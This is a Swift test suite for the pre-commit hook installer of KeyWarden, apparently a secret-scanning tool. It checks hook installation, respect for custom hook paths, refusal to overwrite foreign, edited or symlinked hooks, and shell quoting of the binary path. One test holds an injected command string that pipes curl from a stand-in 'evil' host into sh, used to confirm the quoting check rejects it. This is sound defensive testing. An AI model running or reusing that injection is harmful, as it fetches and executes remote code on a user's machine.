import Foundation
@testable import KeyWardenAudit
@testable import KeyWardenHooks
@testable import KeyWardenInputs
@testable import KeyWardenInventory
@testable import KeyWardenMatching
@testable import KeyWardenPolicy
@testable import KeyWardenReport
@testable import KeyWardenReportModel
@testable import KeyWardenRules
@testable import KeyWardenScan
@testable import KeyWardenSupport
import KeyWardenTestSupport
import Testing

@Suite struct PreCommitHookInstallerTests {
    func installer(_ repo: GitTestRepository) throws -> PreCommitHookInstaller {
        PreCommitHookInstaller(repository: try repo.repository(), executable: "/opt/it's here/keywarden")
    }

    @Test func freshInstallWritesAnExecutableHookRunningTheStagedScan() throws {
        let repo = try GitTestRepository()
        let outcome = try installer(repo).install()
        let hook = repo.path + "/.git/hooks/pre-commit"
        #expect(outcome == .installed(hook: hook))
        let script = try String(contentsOfFile: hook, encoding: .utf8)
        #expect(script.hasPrefix("#!/bin/sh\n\(PreCommitHookInstaller.marker)"))
        #expect(script.contains("exec keywarden scan --staged"))
        #expect(script.contains("exec '/opt/it'\\''s here/keywarden' scan --staged"))
        #expect(FileManager.default.isExecutableFile(atPath: hook))
    }

    @Test func honoursCoreHooksPath() throws {
        let repo = try GitTestRepository()
        try repo.git(["config", "core.hooksPath", "tools/hooks"])
        let outcome = try installer(repo).install()
        #expect(outcome == .installed(hook: repo.path + "/tools/hooks/pre-commit"))
    }

    @Test func refusesAnExistingHookThatIsNotKeywardensAndLeavesItInPlace() throws {
        let repo = try GitTestRepository()
        try repo.write(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")
        #expect(throws: PreCommitHookInstaller.InstallError.self) { try installer(repo).install() }
        #expect(try String(contentsOfFile: repo.path + "/.git/hooks/pre-commit", encoding: .utf8) == "#!/bin/sh\nexit 0\n")
        #expect(!FileManager.default.fileExists(atPath: repo.path + "/.git/hooks/pre-commit.keywarden-chained"))
    }

    /// The marker line alone used to mark a hook as ours, so a user's hook that quoted it (or
    /// ours with the user's own lines added) was silently replaced.
    @Test func aHookThatOnlyContainsTheMarkerIsNotOurs() throws {
        let repo = try GitTestRepository()
        let edited = try installer(repo).script() + "./run-my-linters.sh\n"
        try repo.write(".git/hooks/pre-commit", edited)
        do {
            _ = try installer(repo).install()
            Issue.record("an edited hook was taken for keywarden's")
        } catch let error as PreCommitHookInstaller.InstallError {
            #expect(error.failureClass == .usage)
        }
        #expect(try String(contentsOfFile: repo.path + "/.git/hooks/pre-commit", encoding: .utf8) == edited)

        try repo.write(".git/hooks/pre-commit", "#!/bin/sh\n\(PreCommitHookInstaller.marker)\nmake check\n")
        #expect(throws: PreCommitHookInstaller.InstallError.self) { try installer(repo).install() }
    }

    @Test func aSymbolicLinkHookIsRefused() throws {
        let repo = try GitTestRepository()
        try FileManager.default.createSymbolicLink(atPath: repo.path + "/.git/hooks/pre-commit", withDestinationPath: "../../tools/hook")
        #expect(throws: PreCommitHookInstaller.InstallError.self) { try installer(repo).install() }
        #expect(try FileManager.default.destinationOfSymbolicLink(atPath: repo.path + "/.git/hooks/pre-commit") == "../../tools/hook")
    }

    @Test func recognisesItsOwnHookWrittenForAnotherBinaryPath() throws {
        let repo = try GitTestRepository()
        let other = PreCommitHookInstaller(repository: try repo.repository(), executable: "/usr/local/bin/keywarden")
        try repo.write(".git/hooks/pre-commit", other.script())
        #expect(try installer(repo).install() == .alreadyInstalled(hook: repo.path + "/.git/hooks/pre-commit"))
        #expect(try String(contentsOfFile: repo.path + "/.git/hooks/pre-commit", encoding: .utf8) == installer(repo).script())
    }

    @Test func anInjectedFallbackLineIsNotRecognised() throws {
        #expect(!PreCommitHookInstaller.isShellQuoted("'/bin/kw'; curl evil | sh; '/bin/kw'"))
        #expect(PreCommitHookInstaller.isShellQuoted("'/opt/it'\\''s here/keywarden'"))
    }
}
